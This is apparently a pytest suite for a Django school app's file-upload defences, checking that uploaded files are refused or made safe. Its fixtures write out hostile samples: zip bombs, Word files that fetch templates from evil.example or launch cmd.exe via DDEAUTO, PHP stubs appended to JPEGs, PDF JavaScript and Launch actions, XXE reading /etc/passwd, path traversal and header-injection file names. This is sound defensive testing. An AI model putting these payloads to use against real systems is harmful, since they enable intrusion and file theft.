"""What people bring as files (F01–F19): taken under a safe name, or refused in words with nothing left behind."""
from __future__ import annotations

import io
import re
import struct
import time
import zipfile
import zlib
from pathlib import Path

import docx
import openpyxl
import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from activities.models import ActivityFile, Work, WorkPhoto
from documents import tables
from documents.docx import Word
from documents.nameless import Named, nameless
from documents.photos import Unreadable, normalise
from documents.reading import Unreadable as NotRead
from documents.reading import read_document
from documents.template import fill, opened
from school import files, uploads
from school.models import StoredFile
from school.workflow import Refused
from tests.activities.event import an_activity
from tests.activities.event import opened as opened_session
from tests.activities.records import a_photo, a_work, kind_of, typed

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"


def zipped(parts: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return target.getvalue()


def word(text: str = "正文", **parts: bytes) -> bytes:
    document, target = docx.Document(), io.BytesIO()
    document.add_paragraph(text)
    document.save(target)
    with zipfile.ZipFile(target) as old:
        kept = {name: old.read(name) for name in old.namelist()}
    return zipped(kept | {name.replace("__", "/").replace("_xml", ".xml").replace("_bin", ".bin"): data for name, data in parts.items()})


def boaster() -> bytes:
    """An archive whose list of parts already says 300 MB."""
    return zipped({"word/document.xml": bytes(1 << 20)}).replace(struct.pack("<I", 1 << 20), struct.pack("<I", 300 << 20))


def liar(size: int = 8 << 20) -> bytes:
    """A part that says it has a hundred bytes, with the right sum of those, and unpacks to millions."""
    zeros, few = bytes(size), bytes(100)
    return zipped({"word/document.xml": zeros}).replace(struct.pack("<I", size), struct.pack("<I", 100)).replace(
        struct.pack("<I", zlib.crc32(zeros)), struct.pack("<I", zlib.crc32(few))
    )


SETTINGS = "word/_rels/settings.xml.rels"
TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="%s" TargetMode="External"/></Relationships>'
)
REFUSED = {
    "F01 empty": (b"", "a.pdf", "空的"),
    "F01 one byte": (b"x", "a.pdf", "内容却不是"),
    "F01 no ending": (b"text", "讲稿", "不能传"),
    "F01 a program behind a paper": (PDF, "讲稿.pdf.exe", "不能传"),
    "F01 a script that ends like a photo": (b"<?php system(1)", "a.php;.jpg", "不是照片"),
    "F02 a paper named as another": (word(), "a.pdf", "内容却不是"),
    "F02 a page named as a photo": (b"<html><script>alert(1)</script>", "a.jpg", "不是照片"),
    "F02 another zip named as Word": (zipped({"x.txt": b"x"}), "a.docx", "内容却不是"),
    "F04 too large": (PDF + bytes(21 << 20), "a.pdf", "超过 20 MB"),
    "F05 unpacks without end": (boaster(), "a.docx", "大得不正常"),
    "F05 lies about it": (liar(), "a.pptx", "内容却不是"),
    "F05 lies, its sum is right": (
        zipped({"ppt/a.xml": bytes(1 << 20)}).replace(struct.pack("<I", 1 << 20), struct.pack("<I", 100)), "a.pptx", "内容却不是",
    ),
    "F05 too many parts": (zipped({f"xl/{n}": b"" for n in range(4100)}), "a.xlsx", "大得不正常"),
    "F06 macros renamed": (word(word__vbaProject_bin=b"x"), "a.docx", "宏"),
    "F06 a template from the net": (word(**{SETTINGS: TEMPLATE % b"https://evil.example/t.dotm"}), "a.docx", "到别处取东西"),
    "F06 a template of another machine": (word(**{SETTINGS: TEMPLATE % b"\\\\evil\\t.dotm"}), "a.docx", "到别处取东西"),
    "F06 a field that starts a program": (word(word__header1_xml=b"<w:instrText> DDEAUTO c:\\cmd.exe </w:instrText>"), "a.docx", "启动程序"),
    "F12 a drawing with a script": (SVG, "a.svg", "不能传"),
    "F12 the same named as a photo": (SVG, "a.png", "不是照片"),
    "F01 a film": (b"\0\0\0\x18ftypmp42" + bytes(40), "a.mp4", "不能传"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_f01_f12_what_is_refused_says_why_and_leaves_nothing(cast, what):
    data, name, why = REFUSED[what]
    began = time.process_time()
    with pytest.raises(Refused, match=why) as caught:
        uploads.keep(cast.person("teacher"), data, name)
    assert caught.value.label == name and caught.value.to_do and time.process_time() - began < 2
    assert not StoredFile.objects.exists()


LONG = "关于第三次主题研修活动的讲话稿" * 20
NAMES = {
    "F01": ("讲稿.final.pdf", "讲稿.final.pdf"), "F01 long": (f"{LONG}.pdf", f"{LONG[:196]}.pdf"),
    "F13 above": ("../../etc/passwd.pdf", "passwd.pdf"), "F13 drive": ("C:\\x\\y.pdf", "y.pdf"), "F13 nul": ("a\0b.pdf", "ab.pdf"),
    "F13 device": ("CON.pdf", "CON.pdf"), "F13 turned": ("x\u202efdp.exe.pdf", "xfdp.exe.pdf"),
}


@pytest.mark.parametrize("what", NAMES)
def test_f13_a_name_is_only_text_and_keeps_its_ending(cast, what):
    given, kept = NAMES[what]
    stored = uploads.keep(cast.person("teacher"), PDF, given)
    assert stored.name == kept and stored.blob.name == f"blobs/{cast.school.pk}/{stored.sha256[:2]}/{stored.sha256}"


@pytest.mark.parametrize("name", ["手机.HEIC", "a.php", "照片", "x.exe"])
def test_f03_a_picture_is_made_anew_and_named_as_what_it_is_then(cast, name):
    """A JPEG with something behind it: the tail is gone, and so is the ending it came with."""
    stored = uploads.keep(cast.person("teacher"), a_photo() + b"PK\x03\x04<?php system(1)", name)
    with stored.blob.open("rb") as source:
        data = source.read()
    assert b"<?php" not in data and Image.open(io.BytesIO(data)).format == "JPEG"
    assert stored.mime == "image/jpeg" and stored.name == f"{name.partition('.')[0]}.jpg"


def test_f16_f08_papers_from_outside_are_downloaded_never_opened(cast, login):
    """A PDF with a script, a launch and a zip behind it (F03) is kept as it is and given as a download."""
    hostile = PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert)>>/AA<</O<</S/Launch/F(cmd)>>>>") + zipped({"a": b"x"})
    activity = an_activity(cast)
    at_home = word(**{SETTINGS: TEMPLATE % b"file:///C:\\Users\\laoshi\\Normal.dotm"})
    for data, name, shown in ((hostile, "讲稿.pdf", False), (word(), "教案.docx", False), (at_home, "模板.docx", False), (a_photo(), "照片.png", True)):
        row = ActivityFile.objects.create(activity=activity, file=uploads.keep(cast.person("office"), data, name))
        answer = login("teacher").get(reverse("file", args=[row.file_id]))
        assert answer["Content-Disposition"].startswith("inline" if shown else "attachment"), name
        assert answer["X-Content-Type-Options"] == "nosniff" and answer["Cache-Control"] == "private, no-cache"
        assert "default-src 'self'" in answer["Content-Security-Policy"]


def locked() -> bytes:
    pdf, target = pikepdf.new(), io.BytesIO()
    pdf.add_blank_page()
    pdf.save(target, encryption=pikepdf.Encryption(user="x", owner="y"))
    return target.getvalue()


@pytest.mark.parametrize("make", [lambda: PDF[:40], locked, lambda: b"%PDF-1.7" + bytes(500)], ids=["half", "locked", "zeros"])
def test_f08_a_pdf_that_cannot_be_opened_is_said_to_be_so(make):
    """The only place that opens a PDF from outside takes the author's name out; for a broken one there is a sentence."""
    with pytest.raises(Named):
        nameless(make(), "application/pdf")


def test_f14_a_name_puts_nothing_into_the_headers(cast, login):
    row = files.store(cast.school, PDF, name='第1次 "研讨";\r\nX: y.pdf', mime="application/pdf")
    plain = files.store(cast.school, PDF + b" ", name=uploads.safe('a"b;\r\nX: y.pdf'), mime="application/pdf")
    activity = an_activity(cast)
    for stored in (row, plain):
        ActivityFile.objects.create(activity=activity, file=stored)
        answer = login("teacher").get(reverse("file", args=[stored.pk]))
        assert answer.status_code == 200 and "X" not in answer.headers and "\n" not in answer["Content-Disposition"]


def test_f04_too_many_files_and_too_large_ones_are_refused_in_words(cast, login):
    client, url = login("office"), reverse("activity_files", args=[an_activity(cast).pk])
    many = [SimpleUploadedFile(f"{n}.pdf", PDF + bytes([n])) for n in range(51)]
    answer = client.post(url, {"files": many})
    assert answer.status_code == 400 and "没有存下任何东西" in answer.content.decode()
    answer = client.post(url, {"files": SimpleUploadedFile("录像.pdf", PDF + bytes(20 << 20))}, follow=True)
    assert "『录像.pdf』文件有 20 MB，超过 20 MB" in answer.content.decode() and not StoredFile.objects.exists()


@pytest.mark.parametrize("address", ["plan_read", "rubric_read", "word_template", "roster_import", "timetable", "sheet_photos"])
def test_f04_no_page_reads_a_file_that_is_too_large(cast, login, address, monkeypatch):
    """Every page asks the one door, which looks at the size before it reads."""
    monkeypatch.setattr(uploads, "MOST_BYTES", 1000)
    sent = SimpleUploadedFile("大.xlsx" if address in ("roster_import", "timetable") else "大.docx", bytes(2000))
    answer = login("principal" if address == "rubric_read" else "office").post(
        reverse(address), {"photos" if address == "sheet_photos" else "file": sent, "preview": "1"}, follow=True
    )
    assert "『大." in answer.content.decode() and "超过 0 MB" in answer.content.decode(), answer.status_code


@pytest.mark.parametrize("address", ["roster_import", "results_import", "timetable", "plan_read", "rubric_read"])
def test_f11_a_hostile_table_is_refused_on_every_page_that_reads_one(cast, login, address):
    """A cell at the far end of the sheet: 5 KB that would unfold to sixteen milliards of cells."""
    book, target = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"], book.active["XFD1048576"] = "姓名", "x"
    book.save(target)
    args = [opened_session(cast).activity_id] if address == "results_import" else None
    began = time.process_time()
    answer = login("principal" if address == "rubric_read" else "office").post(
        reverse(address, args=args), {"file": SimpleUploadedFile("表.xlsx", target.getvalue()), "preview": "1"}
    )
    text = answer.content.decode()
    assert "1048576" in text and ("行" in text) and time.process_time() - began < 4
    assert not StoredFile.objects.exists()


def test_f05_f06_f09_what_is_opened_is_weighed_and_nothing_is_fetched():
    entities = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY a "lolololol">' + b"".join(
        f'<!ENTITY {chr(97 + n)} "{f"&{chr(96 + n)};" * 10}">'.encode() for n in range(1, 9)
    ) + b"]>"
    body = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>前&f;&i;后</w:t></w:r></w:p></w:body></w:document>'
    began = time.process_time()
    try:
        text = read_document("a.docx", word(word__document_xml=entities + body.encode())).text
    except NotRead:
        text = ""
    assert "root:" not in text and "lol" not in text
    sheet = b"<worksheet><sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>&f;&i;</t></is></c></row></sheetData></worksheet>"
    book = zipped({"xl/workbook.xml": b"<workbook><sheets><sheet name='a' sheetId='1'/></sheets></workbook>", "xl/worksheets/sheet1.xml": entities + sheet})
    with pytest.raises(tables.Unreadable):
        tables.read(book)
    for hostile in (liar(), boaster(), word(word__vbaProject_bin=b"x")):
        with pytest.raises(NotRead):
            read_document("a.docx", hostile)
        with pytest.raises(Exception, match="样板|docx"):
            opened(hostile)
    assert time.process_time() - began < 6


def test_f06_a_template_loses_what_word_would_fetch(cast):
    settings_xml = (
        b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    filled = fill(word("{{正文}}", word__settings_xml=settings_xml), "标题", "日期", Word("正文"), (None, None))
    with zipfile.ZipFile(io.BytesIO(filled)) as archive:
        assert b"attachedTemplate" not in archive.read("word/settings.xml")


def peak(anew: bool = False) -> int:
    """The most memory of this process in KB, since it was last counted anew."""
    if anew:
        Path("/proc/self/clear_refs").write_text("5")
    return int(re.search(r"VmHWM:\s+(\d+)", Path("/proc/self/status").read_text())[1])


def png(width: int, height: int, kind: int, bytes_each: int, rows: int | None = None) -> bytes:
    """An empty picture of any size, written without ever holding it."""
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    press, row = zlib.compressobj(1), bytes(1 + width * bytes_each)
    pressed = b"".join(press.compress(row) for _ in range(rows or height)) + press.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, kind, 0, 0, 0)) + chunk(b"IDAT", pressed) + chunk(b"IEND", b"")


def frames(kind: str, **more) -> bytes:
    target, one = io.BytesIO(), Image.new("RGB", (60, 40), "red")
    one.save(target, kind, save_all=True, append_images=[Image.new("RGB", (60, 40), (n, 0, 0)) for n in range(200)], **more)
    return target.getvalue()


def cmyk() -> bytes:
    target = io.BytesIO()
    Image.new("CMYK", (300, 200), (0, 99, 99, 0)).save(target, "JPEG")
    return target.getvalue()


GIANTS = {
    "30,000 × 30,000": (lambda: png(30_000, 30_000, 0, 1, rows=30), "像素"),
    "25 million, transparent": (lambda: png(5000, 4990, 6, 4), ""), "49 million, transparent": (lambda: png(7000, 7000, 6, 4, rows=9), "像素"),
    "a GIF of 200 frames": (lambda: frames("GIF"), ""), "a moving WebP": (lambda: frames("WEBP"), ""), "four colours": (cmyk, ""),
    "a TIFF": (lambda: b"II*\0" + bytes(400), "不是照片"),
}


@pytest.mark.parametrize("what", GIANTS)
def test_f07_giant_and_odd_pictures_cost_no_more_than_a_photo(what):
    make, refused = GIANTS[what]
    data = make()
    before = peak(anew=True)
    if refused:
        with pytest.raises(Unreadable, match=refused):
            normalise(data)
    else:
        photo = normalise(data)
        assert photo.mime == "image/jpeg" and max(photo.width, photo.height) <= 1600
    assert peak() - before < 250 << 10


def test_f10_no_place_and_no_camera_is_kept_of_a_photo(cast):
    exif, target = Image.Exif(), io.BytesIO()
    exif[0x0110] = "PHONE-SERIAL-1"
    exif.get_ifd(0x8825)[2] = (30.0, 1.0, 2.0)
    Image.new("RGB", (80, 60), "red").save(target, "JPEG", exif=exif, comment=b"inside")
    stored = uploads.keep(cast.person("teacher"), target.getvalue(), "a.jpg")
    with stored.blob.open("rb") as source:
        data = source.read()
    assert b"Exif" not in data and b"PHONE-SERIAL-1" not in data and b"inside" not in data and stored.sha256 != ""


def test_f15_a_full_school_takes_no_more_and_says_how_full(cast, settings):
    settings.SCHOOL_MOST_BYTES = len(PDF) + 10
    person = cast.person("teacher")
    uploads.keep(person, PDF, "a.pdf")
    with pytest.raises(Refused, match="已经有 0.0 GB"):
        uploads.keep(person, PDF + b"more bytes than are left", "b.pdf")
    assert StoredFile.objects.count() == 1


def test_f18_the_same_bytes_lie_once_and_stay_while_one_needs_them(cast):
    person, works = cast.person("teacher"), [a_work(cast, state="draft") for _ in range(2)]
    rows = [WorkPhoto.objects.create(work=work, file=uploads.keep(person, a_photo(), "a.jpg"), order=1) for work in works]
    assert rows[0].file_id == rows[1].file_id and StoredFile.objects.count() == 1
    rows[0].delete()
    assert rows[1].file.blob.storage.exists(rows[1].file.blob.name)


def test_f19_the_rest_of_a_broken_write_is_written_again(cast):
    stored = uploads.keep(cast.person("teacher"), PDF, "a.pdf")
    path = stored.blob.path
    stored.delete()
    with open(path, "wb") as cut:
        cut.write(PDF[:20])
    with uploads.keep(cast.person("teacher"), PDF, "a.pdf").blob.open("rb") as source:
        assert source.read() == PDF


@pytest.mark.parametrize("kind", ["files", "text"])
def test_f19_a_form_that_is_cut_off_changes_nothing(cast, login, kind):
    """Half a file and half a text would pass for the whole."""
    client = login("teacher")
    if kind == "files":
        client, url = login("office"), reverse("activity_files", args=[an_activity(cast).pk])
        body, content = b'--x\r\nContent-Disposition: form-data; name="files"; filename="a.pdf"\r\n\r\n' + PDF, "multipart/form-data; boundary=x"
    else:
        url, content = reverse("work_new", args=[kind_of(cast).pk]), "application/x-www-form-urlencoded"
        body = "&".join(f"{name}={value}" for name, value in typed(kind_of(cast)).items()).encode()
    answer = client.post(url, body, content_type=content, **{"CONTENT_LENGTH": str(len(body) * 2), "wsgi.input": io.BytesIO(body)})
    assert answer.status_code == 400 and not StoredFile.objects.exists()
    assert not Work.objects.exists()

